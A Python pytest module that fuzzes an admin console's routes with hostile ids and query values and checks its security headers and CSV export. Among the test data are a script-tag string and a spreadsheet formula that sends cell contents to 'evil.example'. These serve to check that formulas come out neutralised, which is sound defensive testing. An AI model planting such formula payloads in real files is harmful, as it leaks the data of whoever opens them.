"""The console under hostile input, on SQLite and PostgreSQL: every route, with ids, pages and sizes
that cannot exist, answers 4xx (an empty page past the end) and never 500 or a dropped connection;
every response carries the security headers; the CSV export is one a spreadsheet opens safely,
with every row of the filter."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import httpx
import pytest
from starlette.routing import Mount, Route

from bridge.csv_cells import restore
from bridge.db import session_scope, utcnow
from bridge.dev.sandbox import Sandbox
from bridge.models import Fulfilment, Order
from bridge.states import FulfilmentState
from bridge.web.console.users import set_user
from tests.conftest import fast_settings, postgres_database, require_service
from tests.e2e.world import build_world
from tests.web.console.conftest import PASSWORD, USER, csrf_token, log_in

HUGE = "9" * 25  # beyond 64 bits
# What a path parameter is sent as: beyond 64 bits, negative, not a number, zero.
HOSTILE = [HUGE, "-1", "abc", "0"]
# A sensible value for each path parameter, while another one is the hostile one.
SENSIBLE = {"key": "fulfilment", "fulfilment_id": "1", "action": "retry", "shop_id": "4"}
# The common query parameters and what they are sent as.
QUERIES = {
    "page": [HUGE, "-5", "abc"],
    "page_size": [HUGE, "-1", "abc"],
    "units": [HUGE, "-1"],
    "pk": [HUGE, "abc"],
    "pks": [HUGE, "abc"],
    "q": ["%", "'\"<script>"],
    "sort": ["nope__asc", "id__sideways"],
    "filter": [f"id__eq={HUGE}", "((("],
    "shop_id": [HUGE],
    "supplier_name": ["\x00"],
}
# Not fuzzed: they end the session the test walks with (the login form is fuzzed logged out).
SKIPPED = {"logout"}
NAMES = [f"Gói {n:02d} tháng" for n in range(28)]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2&C2,"Netflix")'
MINUS = "-Netflix"
QUOTED = "'=already quoted"
CSP_PARTS = [
    "default-src 'self'",
    "object-src 'none'",
    "frame-ancestors 'none'",
    "base-uri 'none'",
    "form-action 'self'",
]


@dataclass
class Console:
    world: Sandbox
    client: httpx.Client
    csrf: str
    backend: str

    def send(self, method: str, path: str) -> httpx.Response:
        headers = {"X-CSRFToken": self.csrf}
        answer = self.client.request(method, path, headers=headers, data={"csrftoken": self.csrf})
        assert_headers(answer)
        return answer

    def refused(self, method: str, path: str) -> str | None:
        """What went wrong with the request (None: answered below 500)."""
        try:
            answer = self.send(method, path)
        except httpx.TransportError as exc:  # a dropped connection
            return f"{method} {path}: {exc!r}"
        if answer.status_code >= 500:
            return f"{method} {path}: {answer.status_code} {answer.text[:100]!r}"
        return None


def assert_headers(answer: httpx.Response) -> None:
    where = (answer.request.method, str(answer.request.url), answer.status_code)
    assert answer.headers.get_list("cache-control") == ["no-store"], where
    assert answer.headers["x-content-type-options"] == "nosniff", where
    assert answer.headers["referrer-policy"] == "same-origin", where
    policy = answer.headers["content-security-policy"]
    for part in CSP_PARTS:
        assert part in policy, (where, part)
    script_src = next(p for p in policy.split("; ") if p.startswith("script-src "))
    assert "'unsafe-inline'" not in script_src, policy
    assert "http" not in policy, policy


@contextmanager
def database(backend: str, folder: Path) -> Iterator[str]:
    if backend == "sqlite":
        yield f"sqlite:///{folder / 'bridge.db'}"
        return
    require_service("PostgreSQL", "127.0.0.1", 5432)
    with postgres_database() as url:
        yield url


def seed_lines(world: Sandbox) -> None:
    """More lines than a list page holds (25), their names Vietnamese, a formula among them."""
    with session_scope(world.runtime.engine) as session:
        order = Order(shop_id="4", order_id="csv-1", item_count=len(NAMES) + 3)
        session.add(order)
        session.flush()
        assert order.id is not None
        for n, name in enumerate([*NAMES, FORMULA, MINUS, QUOTED]):
            session.add(
                Fulfilment(
                    order_pk=order.id,
                    shop_id="4",
                    order_id="csv-1",
                    line_key=f"k{n}",
                    item_name=name,
                    quantity=1,
                    state=FulfilmentState.NEEDS_ATTENTION,
                    reason="no mapping",
                )
            )


@pytest.fixture(scope="module", params=["sqlite", "postgres"])
def console(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Console]:
    """One running bridge per backend for the whole module (no workers: nothing here buys)."""
    with (
        pytest.MonkeyPatch.context() as patch,
        database(request.param, tmp_path_factory.mktemp(request.param)) as url,
    ):
        patch.setenv("BRIDGE_CONSOLE_INSECURE_COOKIES", "true")
        world = build_world(Sandbox(fast_settings(url))).start(workers=False)
        try:
            with session_scope(world.runtime.engine) as session:
                set_user(session, USER, PASSWORD, utcnow())
            seed_lines(world)
            with httpx.Client(base_url=world.bridge_url, timeout=30) as client:
                assert log_in(client).status_code == 303
                yield Console(world, client, csrf_token(client, "/admin/"), request.param)
        finally:
            world.stop()


def routes(world: Sandbox) -> list[tuple[str, str, list[str]]]:
    """(method, path template, path parameters) of every route of the mounted console."""
    mount = next(r for r in world.runtime.app.routes if isinstance(r, Mount) and r.path == "/admin")
    found = []
    for route in mount.routes:
        if not isinstance(route, Route) or route.name in SKIPPED:
            continue
        names = re.findall(r"{(\w+)(?::\w+)?}", route.path)
        for method in sorted((route.methods or {"GET"}) - {"HEAD"}):
            found.append((method, "/admin" + route.path, names))
    return found


def filled(template: str, values: dict[str, str]) -> str:
    return re.sub(r"{(\w+)(?::\w+)?}", lambda m: values.get(m.group(1), "1"), template)


def test_every_route_answers_hostile_ids_pages_and_sizes_without_a_500(console: Console) -> None:
    found = routes(console.world)
    assert len(found) > 15, found
    assert any(names for _, _, names in found), found
    sent: list[tuple[str, str]] = []
    for method, template, names in found:
        for name in names:
            sent += [(method, filled(template, {**SENSIBLE, name: value})) for value in HOSTILE]
        if method == "GET":
            path = filled(template, SENSIBLE)
            sent += [
                (method, path + "?" + str(httpx.QueryParams({query: value})))
                for query, values in QUERIES.items()
                for value in values
            ]
    assert len(sent) > 200
    failed = [problem for request in sent if (problem := console.refused(*request))]
    assert failed == [], f"{console.backend}: " + "\n".join(failed)

    # What cannot exist is a 4xx; a page past the end is an empty page.
    for path in (f"/admin/lines/{HUGE}", f"/admin/mappings/choice/{HUGE}", "/admin/lines/-1"):
        assert 400 <= console.send("GET", path).status_code < 500, path
    for pk in (HUGE, "abc", "-1"):
        action = f"/admin/_api/fulfilment/row-action?name=retry&pk={pk}"
        assert console.send("POST", action).status_code == 400, pk
    past_the_end = console.send("GET", f"/admin/fulfilment/list?page={HUGE}")
    assert past_the_end.status_code == 200
    assert "Gói 00 tháng" not in past_the_end.text
    assert "Gói 00 tháng" in console.send("GET", "/admin/fulfilment/list?page=2").text


def test_every_response_carries_the_headers(console: Console) -> None:
    """Pages, the library's lists and assets, the export, redirects, errors and the login form
    (each ``send`` checks the headers)."""
    for method, template, _ in routes(console.world):
        if method == "GET":
            console.send(method, filled(template, SENSIBLE))
    console.send("GET", "/admin/static/js/vendor/jquery.min.js")
    console.send("GET", "/admin/static/console/list.js")
    assert console.send("GET", "/admin/no/such/page").status_code == 404
    with httpx.Client(base_url=console.world.bridge_url) as anonymous:
        for path in ("/admin/", "/admin/login"):
            assert_headers(anonymous.get(path))


def export(console: Console, scope: str, list_query: str) -> httpx.Response:
    answer = console.client.post(
        "/admin/_api/fulfilment/action",
        params={"name": "export", "_list_query": list_query},
        headers={"X-CSRFToken": console.csrf},
        data={"csrftoken": console.csrf, "scope": scope, "format": "csv"},
    )
    assert answer.status_code == 200, answer.text[:300]
    assert_headers(answer)
    return answer


def test_the_csv_export_has_a_bom_every_row_of_the_filter_and_no_live_formula(
    console: Console,
) -> None:
    every = export(console, "all", "?q=csv-1")
    assert every.content.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(every.content.decode("utf-8-sig"))))
    column = next(name for name in rows[0] if any(row[name] in NAMES for row in rows))
    names = [row[column] for row in rows]
    assert len(rows) == len(NAMES) + 3 > 25, "every row of the filter, not one page"
    assert set(NAMES) <= set(names), "Vietnamese intact"
    assert {"'" + FORMULA, "'" + MINUS, "'" + QUOTED} <= set(names)
    assert not [name for name in names if name.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert sorted(restore(name) for name in names) == sorted([*NAMES, FORMULA, MINUS, QUOTED])

    page = export(console, "page", "?q=csv-1")
    assert len(list(csv.reader(io.StringIO(page.content.decode("utf-8-sig"))))) == 25 + 1
    searched = export(console, "all", "?q=Gói 0")
    assert len(list(csv.reader(io.StringIO(searched.content.decode("utf-8-sig"))))) == 10 + 1
